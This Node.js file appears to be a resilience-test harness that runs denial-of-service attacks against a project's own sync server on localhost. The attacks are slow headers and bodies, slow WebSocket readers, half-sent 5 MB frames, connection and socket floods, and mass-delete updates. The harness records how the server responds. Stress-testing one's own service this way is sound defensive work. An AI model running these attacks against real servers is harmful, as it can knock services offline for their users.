// Attacks on a server, each in a process of its own, so that whoever is measured beside it shares nothing with it but the
// machine. Started by `hostile.mjs`, which sends what to attack; tells what came of it when it is asked to stop.
import { connect } from 'node:net'
import {
  BEARER_PREFIX,
  encodeClientHello,
  encodeDeletes,
  encodeSyncFrame,
  PROTOCOL_VERSION,
  SUBPROTOCOL,
  SYNC,
} from '@modaics/shared'
import WebSocket from 'ws'

const figures = {}
const count = (what, by = 1) => {
  figures[what] = (figures[what] ?? 0) + by
}
let stopped = false
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

function tcp({ url }) {
  const socket = connect(Number(new URL(url).port), '127.0.0.1')
  count('opened')
  socket.on('error', () => {})
  socket.on('data', (bytes) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'))
    if (status) count(`answered ${status[1]}`)
  })
  socket.on('close', () => count('ended by the server', stopped ? 0 : 1))
  return socket
}

/** One that answers no ping: bytes of ours between those of an attack would be another one. */
function upgraded({ url, wardrobeId, token }) {
  const socket = new WebSocket(
    `${url.replace('http', 'ws')}/sync/${wardrobeId}`,
    [SUBPROTOCOL, BEARER_PREFIX + token],
    { autoPong: false },
  )
  count('opened')
  socket.on('error', () => {})
  socket.on('close', (code) => stopped || count(`closed ${code}`))
  return new Promise((resolve) => {
    socket.once('open', () => resolve(socket))
    socket.once('close', () => resolve(null))
    socket.once('error', () => resolve(null))
  })
}

const hello = ({ device }) => encodeClientHello({ protocol: PROTOCOL_VERSION, device, cursor: null })
const everything = encodeSyncFrame(SYNC.step1, new Uint8Array([0]))

const ATTACKS = {
  /** ask for the whole wardrobe again and again, and read none of it */
  async 'slow readers'(target) {
    const sockets = (await Promise.all(Array.from({ length: 30 }, () => upgraded(target)))).filter(Boolean)
    for (const socket of sockets) {
      socket.send(hello(target))
      socket._socket.pause()
    }
    while (!stopped) {
      for (const socket of sockets)
        if (socket.readyState === socket.OPEN) {
          socket.send(everything)
          count('wardrobes asked for')
        }
      await pause(200)
    }
  },
  /** 900 requests whose head comes a byte at a time */
  async 'slow heads'(target) {
    const open = () => {
      const socket = tcp(target)
      socket.write('GET /health/live HTTP/1.1\r\nHost: x\r\nX: ')
      return socket
    }
    const sockets = Array.from({ length: 900 }, open)
    while (!stopped) {
      for (const [i, socket] of sockets.entries())
        if (socket.destroyed) sockets[i] = open()
        else socket.write('x')
      await pause(1_000)
    }
  },
  /** 200 requests of 16 MiB whose body comes a byte at a time */
  async 'slow bodies'(target) {
    const open = () => {
      const socket = tcp(target)
      socket.write(
        `POST /v1/wardrobes/${target.wardrobeId}/sync HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${target.token}\r\n` +
          'Content-Type: application/octet-stream\r\nContent-Length: 16777216\r\n\r\n',
      )
      return socket
    }
    const sockets = Array.from({ length: 200 }, open)
    while (!stopped) {
      for (const [i, socket] of sockets.entries())
        if (socket.destroyed) sockets[i] = open()
        else socket.write('x')
      await pause(1_000)
    }
  },
  /** sockets that send all of the largest frame but its end */
  async 'half-sent frames'(target) {
    const sockets = (await Promise.all(Array.from({ length: 30 }, () => upgraded(target)))).filter(Boolean)
    const bytes = 5_000_000
    const head = Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
    head.writeBigUInt64BE(BigInt(bytes + 1), 2)
    for (const socket of sockets) {
      socket._socket.write(head)
      socket._socket.write(Buffer.alloc(bytes))
      count('bytes sent', bytes)
    }
    while (!stopped) await pause(100)
  },
  /** connections as fast as they can be opened, and kept */
  async 'flood of connections'(target) {
    const sockets = new Set()
    while (!stopped) {
      for (let i = 0; i < 50; i++) {
        const socket = tcp(target)
        sockets.add(socket)
        socket.on('close', () => sockets.delete(socket))
      }
      await pause(20)
    }
  },
  /** sockets of one account as fast as they can be opened */
  async 'flood of sockets'(target) {
    while (!stopped) await Promise.all(Array.from({ length: 20 }, () => upgraded(target)))
  },
  /** updates that delete all there is, in one range and in as many as fit */
  async 'giant deletes'(target) {
    const socket = await upgraded(target)
    socket.send(hello(target))
    socket.send(everything)
    const whole = deletes(target.writer, [[0, target.edits]])
    const ranges = deletes(
      target.writer,
      Array.from({ length: target.edits / 2 }, (_, i) => [i * 2, 1]),
    )
    const beyond = deletes(target.writer, [[0, 2 ** 40]])
    while (!stopped) {
      for (const update of [whole, ranges, beyond])
        if (socket.readyState === socket.OPEN) {
          socket.send(encodeSyncFrame(SYNC.update, update))
          count('updates')
          count('deletions', update === ranges ? target.edits / 2 : 1)
        }
      // As fast as they are dealt with.
      while (socket.bufferedAmount > 0 && !stopped) await pause(1)
      await pause(50)
    }
  },
}

const deletes = (client, ranges) =>
  encodeDeletes(ranges.map(([clock, length]) => ({ client, clock, length })))

process.on('message', async (message) => {
  if (message.stop) {
    stopped = true
    process.send(figures)
    setTimeout(() => process.exit(0), 200)
  } else await ATTACKS[message.attack](message.target)
})
